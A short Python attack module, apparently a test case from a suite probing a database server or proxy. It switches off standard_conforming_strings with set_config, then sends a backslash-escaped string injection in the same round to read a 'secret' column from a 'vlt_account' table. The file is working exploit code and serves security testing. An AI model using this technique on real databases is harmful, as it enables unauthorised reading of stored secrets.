"""Turns standard strings off by a function, and uses that in the same round."""

from attacks.frames import SYNC, ask, whole
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        off = b"SELECT set_config('standard_conforming_strings', 'off', false)"
        return ask(client, whole(off), whole(rb"SELECT '\'', secret FROM vlt_account --'"), SYNC)
